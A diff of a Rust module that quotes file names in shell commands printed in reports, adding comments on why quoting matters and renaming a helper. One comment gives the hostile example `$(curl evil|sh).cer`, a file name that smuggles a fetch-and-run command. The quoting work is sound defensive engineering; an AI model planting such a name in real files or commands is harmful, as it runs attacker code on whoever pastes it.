@@ -1,14 +1,20 @@
 //! Quoting of words in shell commands that reports print for the reader to paste.
+//!
+//! File names come from whoever sent the files. A name such as `$(curl evil|sh).cer` in a remedy
+//! that is pasted would run, so every word that is not plain is quoted for a POSIX shell. Commands
+//! in reports are for such a shell on every system; on Windows that is Git Bash.
 
 use crate::escape;
 use std::{borrow::Cow, fmt::Write as _};
 
-/// Quotes a word for a POSIX shell, if it needs quoting.
+/// The word as a POSIX shell reads it back: as it is if nothing in it is special, else in single
+/// quotes, within which nothing is special but the quote itself (POSIX.1 section 2.2.2).
 pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
     // Output escapes these characters, and the shell would receive the escapes: use its own.
     if word.contains('`') || !escape::is_escaped(word) {
-        return Cow::Owned(numbered(word));
+        return Cow::Owned(dollar_quoted(word));
     }
+    // A list of what is harmless, not of what is not: the latter differs between shells.
     let plain = |c: char| c.is_alphanumeric() || "_-./:=@%+,".contains(c);
     if !word.is_empty() && word.chars().all(plain) {
         return Cow::Borrowed(word);
@@ -16,10 +22,10 @@ pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
     Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
 }
 
-/// Quotes as `$'…'` (POSIX.1-2024 section 2.2.4), with octal escapes for hidden characters, for `:`
-/// and `#`, with which commands in build logs begin, and for the backquote, with which reports
-/// delimit commands.
-fn numbered(word: &str) -> String {
+/// The word as `$'…'` (POSIX.1-2024 section 2.2.4), which bash, zsh and ksh have had for long.
+/// Octal escapes stand for hidden characters, for `:` and `#`, with which commands in build logs
+/// begin, and for the backquote, with which reports delimit commands.
+fn dollar_quoted(word: &str) -> String {
     let mut out = String::from("$'");
     for c in word.chars() {
         match c {
